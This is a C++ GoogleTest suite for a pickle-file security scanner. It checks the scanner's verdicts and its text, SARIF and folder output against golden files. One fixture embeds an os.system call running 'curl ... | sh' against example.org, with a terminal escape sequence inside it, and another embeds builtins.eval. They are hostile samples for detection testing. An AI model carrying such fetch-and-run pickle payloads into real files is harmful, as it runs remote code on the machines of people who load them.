// What `scan` says, word for word: one file for each verdict, the way a folder is told, and the skeleton of SARIF.
#include <gtest/gtest.h>

#include <filesystem>
#include <string>
#include <vector>

#include <nlohmann/json.hpp>
#include <tenon/render.hpp>
#include <tenon/scan.hpp>

#include "base/cursor.hpp"
#include "support/folder.hpp"
#include "support/golden.hpp"
#include "support/pickles.hpp"

namespace tenon {
namespace {

using namespace test::pickles;

std::string pickle(const std::string& body) { return "\x80\x02" + body + "."; }

struct ScanCase {
  std::string name, bytes;
  ScanVerdict verdict;
  Limits limits = {};
};

Limits with(std::uint64_t Limits::*limit, std::uint64_t value) {
  Limits limits;
  limits.*limit = value;
  return limits;
}

std::string nested(int depth) {
  std::string body = "K\x01";
  for (int i = 0; i < depth; ++i) body = list(body);
  return pickle(body);
}

const std::vector<ScanCase> kCases = {
    {"safe", pickle(dict(text("epoch"), number(3))), ScanVerdict::Safe},
    {"unknown_code", pickle(object("project.config", "Config", dict(text("lr"), number(1)))), ScanVerdict::UnknownCode},
    {"malformed", pickle(text("epoch")).substr(0, 9), ScanVerdict::Malformed},
    {"malformed_limit", nested(5), ScanVerdict::Malformed, with(&Limits::nesting_depth, 3)},
    {"dangerous", pickle(dict(text("weights"), call("os", "system", text("curl \x1b[2Jhttps://example.org | sh")))),
     ScanVerdict::Dangerous},
    {"dangerous_and_cut",
     pickle(tuple(call("builtins", "eval", text("1")), call("project", "make", text("x")))) + "junk",
     ScanVerdict::Dangerous}};

ScannedFile scanned(const ScanCase& row) { return scan(base::as_bytes(row.bytes), row.name + ".pkl", {row.limits}); }

class ScanGolden : public testing::TestWithParam<ScanCase> {};

TEST_P(ScanGolden, SaysTheSame) {
  const ScannedFile file = scanned(GetParam());
  EXPECT_EQ(file.verdict, GetParam().verdict);
  test::expect_golden(render_text(file, TextStyle{}), "scan/" + GetParam().name + ".txt");
}

INSTANTIATE_TEST_SUITE_P(Cases, ScanGolden, testing::ValuesIn(kCases), [](const auto& row) { return row.param.name; });

TEST(ScanGoldens, Sarif) {
  std::vector<ScannedFile> files;
  for (const ScanCase& row : kCases) files.push_back(scanned(row));
  auto document = nlohmann::ordered_json::parse(render_sarif(files));
  document["runs"][0]["tool"]["driver"]["version"] = "VERSION";  // changes with every release
  test::expect_golden(document.dump(1) + "\n", "scan/all.sarif");
}

using ScanFolder = test::TemporaryFolder;

TEST_F(ScanFolder, IsToldFileByFile) {
  std::filesystem::create_directory(path("deeper"));
  test::put(path("b.pkl"), kCases[0].bytes);
  test::put(path("a.txt"), kCases[4].bytes);
  test::put(path("deeper/c.pkl"), kCases[1].bytes);
  std::filesystem::create_symlink(path("b.pkl"), path("link.pkl"));
  std::string text;
  for (const std::string& name : files_to_scan(folder().string())) {
    ScannedFile file = scan(name);
    file.file = std::filesystem::path(name).lexically_relative(folder()).generic_string();
    text += render_text(file, TextStyle{});
  }
  test::expect_golden(text, "scan/folder.txt");
}

}  // namespace
}  // namespace tenon
